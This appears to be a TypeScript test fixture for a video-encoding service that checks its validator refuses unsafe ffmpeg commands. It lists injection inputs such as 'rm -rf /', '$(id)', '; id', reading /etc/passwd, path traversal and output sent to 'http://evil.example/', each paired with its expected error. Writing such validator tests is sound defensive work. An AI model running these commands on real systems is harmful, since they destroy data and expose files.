import type { JobRow, RequestRow, WaitingRow } from './rows.ts';

const X264 = 'ffmpeg -i - -c:v libx264 -preset ultrafast';

/** Tricks in the encoder command: refused at the submission, in words. */
const TRICKS: readonly (readonly [string, string])[] = [
  ['rm -rf /', 'the program rm is not one of ffmpeg'],
  ['sh -c ls', 'the program sh is not one of ffmpeg'],
  ['/usr/bin/python3 x.py', 'the program python3 is not one of ffmpeg'],
  ['env ffmpeg -i -', 'the program env is not one of ffmpeg'],
  ['nosuchencoder -i - out', 'the program nosuchencoder is not one of ffmpeg'],
  [`${X264} $(id)`, '$( outside of quotes would be an expansion'],
  [`${X264} \${HOME}`, '${ outside of quotes would be an expansion'],
  [`${X264} \`id\``, 'would be a command substitution'],
  [`${X264}; id`, 'would be a second command'],
  [`${X264} && id`, 'would be a background command'],
  [`${X264} || id`, '"||" would be a second command'],
  [`${X264} > /tmp/x`, 'would be a redirection'],
  [`${X264}\nid`, 'would be a line break'],
  [`${X264} | tee /tmp/x`, 'the program tee is not one of ffmpeg'],
  [`${X264} |`, 'there is no program before or after a |'],
  [`${X264} 'x`, "a ' is never closed"],
  [`${X264} \\`, 'it ends with a backslash'],
  [`${X264} ${'x '.repeat(1001)}`, 'it has more than 1000 words'],
  ['   ', 'it is empty'],
  ['ffmpeg -i /etc/passwd', 'absolute paths are not allowed'],
  ['ffmpeg -i other.mkv', 'the only input is the filtered video, -i -'],
  [`${X264} /tmp/out.mkv`, 'absolute paths are not allowed'],
  [`${X264} ../out.mkv`, '".." is not allowed in paths'],
  [`${X264} ~/out.mkv`, 'absolute paths are not allowed'],
  [`${X264} file:out.mkv`, 'programs read and write only their work directory'],
  [`${X264} -f mpegts http://evil.example/`, 'programs read and write only their work directory'],
  [`${X264} -f tee out.mkv`, 'ffmpeg -f tee is not allowed here'],
  ['ffmpeg -f lavfi -i - out.mkv', 'ffmpeg -f lavfi is not allowed here'],
  [`${X264} -vf movie=x.mkv`, 'filters that open files are not allowed'],
  [`${X264} -attach x`, 'it reads or writes files of its own'],
  [`${X264} -report`, 'it reads or writes files of its own'],
  [`${X264} a\u0001b`, 'control characters are not allowed'],
  ['x264 --demuxer y4m - -o out.264', 'it must write CLIPGRID_OUTPUT.mkv'],
];

const AUDIO_TRICKS: readonly (readonly [string, string])[] = [
  ['ffmpeg -i /etc/passwd', 'absolute paths are not allowed'],
  ['ffmpeg -i CLIPGRID_AUDIO.mkv -c:a aac | ffmpeg -i - x', 'it must be one ffmpeg command'],
  ['x264 -', 'the program x264 is not one of ffmpeg'],
];

function trick(field: 'encode' | 'audio', [command, says]: readonly [string, string]): RequestRow {
  const long = command.length > 200;
  return {
    name: `${field}: ${JSON.stringify(command.slice(0, 60))}`,
    body: { upload_id: '@upload', encode: X264, [field]: command },
    status: 400,
    code: 'invalid_argument',
    field,
    value: long ? /\.\.\.$/ : command,
    says,
  };
}

export const TRICK_ROWS: readonly RequestRow[] = [
  ...TRICKS.map((one) => trick('encode', one)),
  ...AUDIO_TRICKS.map((one) => trick('audio', one)),
];

const ENCODE = { stage: 'encode', attempts: 'several' } as const;

export const COMMAND_ROWS: readonly JobRow[] = [
  {
    name: 'an encoder that does not exist, hidden from the planner',
    encode: 'ffmpeg -i - -codec:0 libnosuch',
    code: 'encoder_failed',
    says: "ffmpeg failed with exit code 1: Unknown encoder 'libnosuch'",
    ...ENCODE,
  },
  {
    name: 'an option that does not exist',
    encode: `${X264} -nosuchoption 1`,
    code: 'encoder_failed',
    says: "ffmpeg failed with exit code 1: Unrecognized option 'nosuchoption'",
    ...ENCODE,
  },
  {
    name: 'a value that is none',
    encode: `${X264} -crf banana`,
    code: 'encoder_failed',
    says: 'ffmpeg failed with exit code 1: Error setting option crf to value banana',
    log: 'Unable to parse option value "banana"',
    ...ENCODE,
  },
  {
    name: 'an x264 that does not start',
    encode: 'x264 --demuxer y4m --nosuch - -o CLIPGRID_OUTPUT.mkv',
    code: 'encoder_failed',
    says: "unrecognized option '--nosuch'",
    ...ENCODE,
  },
  {
    name: 'an encoder that exits 0 early',
    encode: `${X264} -frames:v 3`,
    code: 'frames_missing',
    says: 'the encoder was given 12 frames, its output has 3',
    ...ENCODE,
  },
  {
    name: 'an encoder that reads nothing and exits 0',
    encode: 'ffmpeg -h',
    code: 'encoder_failed',
    says: /ffmpeg ended with exit code 0 before it had read all frames|wrote nothing to CLIPGRID_OUTPUT.mkv/,
    ...ENCODE,
  },
  {
    name: 'an encoder that drops frames',
    encode: `${X264} -vf 'select=gt(n\\,4)'`,
    code: 'frames_missing',
    says: 'the encoder was given 12 frames, its output has 7',
    ...ENCODE,
  },
  {
    name: 'an encoder that writes nothing',
    encode: `${X264} -f null CLIPGRID_OUTPUT.mkv`,
    code: 'encoder_failed',
    says: 'the encoder ended well but wrote nothing to CLIPGRID_OUTPUT.mkv: the command must write that file',
    stage: 'encode',
    attempts: 'one',
  },
  {
    name: 'an encoder that writes garbage',
    encode: 'ffmpeg -i - -c:v rawvideo -f rawvideo CLIPGRID_OUTPUT.mkv',
    code: 'encoder_failed',
    says: 'the encoder wrote no readable video',
    ...ENCODE,
  },
  {
    name: 'an audio encoder that does not exist',
    audio: 'ffmpeg -i CLIPGRID_AUDIO.mkv -codec:0 libnosuch CLIPGRID_AUDIO_OUTPUT.mkv',
    code: 'encoder_failed',
    says: "ffmpeg failed with exit code 1: Unknown encoder 'libnosuch'",
    stage: 'audio',
    attempts: 'several',
  },
  {
    name: 'an audio command that writes nothing',
    audio: 'ffmpeg -i CLIPGRID_AUDIO.mkv -f null CLIPGRID_AUDIO_OUTPUT.mkv',
    code: 'encoder_failed',
    says: 'the encoder ended well but wrote nothing to CLIPGRID_AUDIO_OUTPUT.mkv',
    stage: 'audio',
    attempts: 'one',
  },
];

export const WAITING_ROWS: readonly WaitingRow[] = [
  {
    name: 'an encoder that no machine here has',
    encode: 'ffmpeg -i - -c:v hevc_nvenc',
    waiting: 'none of the 2 agents online has the encoder hevc_nvenc, proved by encoding a frame',
  },
  {
    name: 'an encoder that does not exist',
    encode: 'ffmpeg -i - -c:v libnosuch',
    waiting: 'none of the 2 agents online has the encoder libnosuch, proved by encoding a frame',
  },
];
